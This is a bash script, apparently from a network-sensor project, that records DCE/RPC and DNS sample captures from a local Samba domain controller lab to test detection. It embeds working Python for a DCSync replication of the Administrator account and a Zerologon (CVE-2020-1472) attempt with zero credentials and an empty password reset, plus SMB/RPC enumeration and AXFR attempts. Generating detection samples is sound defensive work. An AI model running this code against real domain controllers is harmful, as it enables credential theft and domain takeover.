#!/usr/bin/env bash
# record-rpc-dns-pcaps.sh — record the network sensor's DCE/RPC and DNS sample captures from a Samba lab.
#
# Usage: scripts/record-rpc-dns-pcaps.sh [OUT_DIR]      (OUT_DIR defaults to samples/pcap)
#
# Uses the Samba AD DC lab in $LAB_DIR when one is running there (default /tmp/castellan-lab, the
# shared test lab: only read-only calls and failing authentications are made against it);
# otherwise starts a throwaway lab with scripts/samba-lab.sh and removes it at the end. Records,
# with `tcpdump -i lo`, one small capture per scenario:
#
#   rpc-smb-recon.pcap         rpcclient over SMB2 named pipes with NTLM (no Kerberos, no SMB3
#                              encryption): SAMR enumeration (samr pipe), LSA lookups and policy
#                              query (lsarpc), SRVSVC NetrSessionEnum / NetrShareEnum (srvsvc)
#   rpc-smb-encrypted.pcap     the same SAMR enumeration with SMB3 encryption required: only the
#                              session setup (NTLM) is readable; the sensor counts the rest as
#                              encrypted and names no RPC call
#   rpc-drsuapi-dcsync.pcap    DCSync as Mimikatz and secretsdump do it: epmapper ept_map on 135,
#                              then DRSUAPI on the DC's dynamic port (sealed, NTLM): DRSBind and
#                              DRSGetNCChanges with EXOP_REPL_OBJ for CN=Administrator
#   rpc-netlogon-zerologon.pcap  a Zerologon attempt (CVE-2020-1472) on anonymous ncacn_ip_tcp:
#                              NetrServerReqChallenge + NetrServerAuthenticate3 with an all-zero
#                              credential, three times (Samba refuses: 0xc0000022), then
#                              NetrServerPasswordSet2
#   rpc-tcp-admin.pcap         samba-tool drs showrepl (DRSUAPI DRSGetReplInfo) and samba-tool dns
#                              query (MS-DNSP R_DnssrvEnumRecords2) over ncacn_ip_tcp
#   dns-queries-axfr.pcap      DNS: SRV/A queries over UDP and TCP, an NXDOMAIN, and AXFR of the
#                              lab zone over TCP and UDP (Samba answers without records)
#
# Needs root (tcpdump, and the lab when one is started) and python3 with samba's bindings and
# dnspython (both come with the samba packages). Regenerate the golden outputs afterwards with:
#   go test ./connector/sources/netsensor/ -run TestGolden -update
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
ROOT=$(cd "$HERE/.." && pwd)
OUT=$(realpath -m -- "${1:-$ROOT/samples/pcap}")
LAB_DIR=${LAB_DIR:-/tmp/castellan-lab}
PY=${PYTHON:-/usr/bin/python3} # Debian's python: samba's bindings and dnspython live there
OWN_LAB=
WORK=$(mktemp -d /tmp/castellan-rpc-rec.XXXXXX)
LOG_NAME=record-rpc-dns-pcaps
# The DC's RPC, SMB and DNS ports. Samba's dynamic RPC endpoints are the first ports from 49152
# up; a narrow range keeps other clients' ephemeral ports (and the parallel tests' traffic)
# mostly out of the captures.
PCAP_FILTER='port 53 or tcp port 135 or tcp port 445 or tcp portrange 49152-49199'
# shellcheck source=scripts/pcap-lib.sh
. "$HERE/pcap-lib.sh"

cleanup() {
  stop_capture
  [ -n "$OWN_LAB" ] && { bash "$HERE/samba-lab.sh" clean "$LAB_DIR" >/dev/null 2>&1 || true; }
  rm -rf "$WORK"
}
trap cleanup EXIT

require_root_tcpdump

if [ -f "$LAB_DIR/etc/smb.conf" ] && bash "$HERE/samba-lab.sh" env "$LAB_DIR" >/dev/null 2>&1 &&
   (exec 3<>/dev/tcp/127.0.0.1/445) 2>/dev/null; then
  log "using the running lab in $LAB_DIR"
else
  LAB_DIR=$(mktemp -d /tmp/castellan-rpc-lab.XXXXXX)
  OWN_LAB=1
  log "starting a throwaway lab in $LAB_DIR"
  LAB_DIR=$LAB_DIR bash "$HERE/samba-lab.sh" cycle "$LAB_DIR" >"$WORK/cycle.log" 2>&1 || { tail -20 "$WORK/cycle.log"; exit 1; }
fi
eval "$(bash "$HERE/samba-lab.sh" env "$LAB_DIR")"
SMBCONF=$LAB_DIR/etc/smb.conf
BASE_DN=$(echo "$LAB_BASE_DN" | sed 's/\\//g')

cat >"$WORK/dcsync.py" <<'EOF'
import sys
from samba import param, credentials, drs_utils
from samba.dcerpc import drsuapi, misc
lp = param.LoadParm(); lp.load(sys.argv[1])
creds = credentials.Credentials(); creds.guess(lp)
creds.set_username("Administrator"); creds.set_password(sys.argv[2]); creds.set_domain("LAB")
creds.set_kerberos_state(credentials.DONT_USE_KERBEROS)
drs, handle, _ = drs_utils.drsuapi_connect("127.0.0.1", lp, creds)
req = drsuapi.DsGetNCChangesRequest8()
req.destination_dsa_guid = misc.GUID("9c637f89-5f4d-4c2a-8a5e-0c0000000001")
req.source_dsa_invocation_id = misc.GUID()
nc = drsuapi.DsReplicaObjectIdentifier(); nc.dn = "CN=Administrator,CN=Users," + sys.argv[3]
req.naming_context = nc
req.highwatermark = drsuapi.DsReplicaHighWaterMark()
req.highwatermark.tmp_highest_usn = req.highwatermark.reserved_usn = req.highwatermark.highest_usn = 0
req.uptodateness_vector = None
req.replica_flags = drsuapi.DRSUAPI_DRS_INIT_SYNC | drsuapi.DRSUAPI_DRS_WRIT_REP
req.max_object_count = 1
req.max_ndr_size = 402116
req.extended_op = drsuapi.DRSUAPI_EXOP_REPL_OBJ
req.fsmo_info = 0
req.partial_attribute_set = req.partial_attribute_set_ex = None
req.mapping_ctr.num_mappings = 0
req.mapping_ctr.mappings = None
level, ctr = drs.DsGetNCChanges(handle, 8, req)
print("DsGetNCChanges: level", level, "objects", ctr.object_count)
EOF

cat >"$WORK/zerologon.py" <<'EOF'
import sys
from samba import param, credentials
from samba.dcerpc import netlogon, misc
lp = param.LoadParm(); lp.load(sys.argv[1])
creds = credentials.Credentials(); creds.guess(lp); creds.set_anonymous()
c = netlogon.netlogon("ncacn_ip_tcp:127.0.0.1", lp, creds)
zero = netlogon.netr_Credential(); zero.data = [0] * 8
for _ in range(3):
    c.netr_ServerReqChallenge("\\\\DC1", "ATTACKER", zero)
    try:
        c.netr_ServerAuthenticate3("\\\\DC1", "DC1$", misc.SEC_CHAN_BDC, "DC1", zero, 0x212fffff)
    except Exception as e:
        print("NetrServerAuthenticate3:", e.args[0])
auth = netlogon.netr_Authenticator(); auth.cred = zero; auth.timestamp = 0
pw = netlogon.netr_CryptPassword(); pw.data = [0] * 512; pw.length = 0
try:
    c.netr_ServerPasswordSet2("\\\\DC1", "DC1$", misc.SEC_CHAN_BDC, "DC1", auth, pw)
except Exception as e:
    print("NetrServerPasswordSet2:", e.args[0])
EOF

cat >"$WORK/dnsq.py" <<'EOF'
import dns.message, dns.query, dns.rcode, dns.zone
srv = "127.0.0.1"
def q(name, t, tcp=False):
    r = (dns.query.tcp if tcp else dns.query.udp)(dns.message.make_query(name, t), srv, timeout=3)
    print(name, t, dns.rcode.to_text(r.rcode()), len(r.answer))
q("_ldap._tcp.dc._msdcs.lab.test", "SRV")
q("nosuch.lab.test", "A")
q("_kerberos._tcp.lab.test", "SRV", tcp=True)
try:
    dns.zone.from_xfr(dns.query.xfr(srv, "lab.test", timeout=5, lifetime=10))
except Exception as e:
    print("AXFR over TCP:", type(e).__name__)
r = dns.query.udp(dns.message.make_query("lab.test", "AXFR"), srv, timeout=3)
print("AXFR over UDP:", dns.rcode.to_text(r.rcode()), len(r.answer))
EOF

mkdir -p "$OUT"

smb_recon() {
  rpcclient -s "$SMBCONF" -U "LAB\\Administrator%$LAB_ADMIN_PASS" --option='client use kerberos=off' \
    --option='client smb encrypt=off' 127.0.0.1 \
    -c 'enumdomusers;enumdomgroups;querydominfo;lookupnames Administrator;lsaquery;netsessenum;netshareenumall' >/dev/null
}
smb_encrypted() {
  rpcclient -s "$SMBCONF" -U "LAB\\Administrator%$LAB_ADMIN_PASS" --option='client use kerberos=off' \
    --option='client smb encrypt=required' 127.0.0.1 -c 'enumdomusers' >/dev/null
}
dcsync() { "$PY" "$WORK/dcsync.py" "$SMBCONF" "$LAB_ADMIN_PASS" "$BASE_DN"; }
zerologon() { "$PY" "$WORK/zerologon.py" "$SMBCONF"; }
tcp_admin() {
  local A=(-s "$SMBCONF" -U "Administrator%$LAB_ADMIN_PASS" --use-kerberos=off)
  samba-tool drs showrepl 127.0.0.1 "${A[@]}" >/dev/null
  samba-tool dns query 127.0.0.1 lab.test @ SOA "${A[@]}" >/dev/null
}
dns_queries() { "$PY" "$WORK/dnsq.py"; }

capture rpc-smb-recon smb_recon
capture rpc-smb-encrypted smb_encrypted
capture rpc-drsuapi-dcsync dcsync
capture rpc-netlogon-zerologon zerologon
capture rpc-tcp-admin tcp_admin
capture dns-queries-axfr dns_queries
log "done: $OUT"
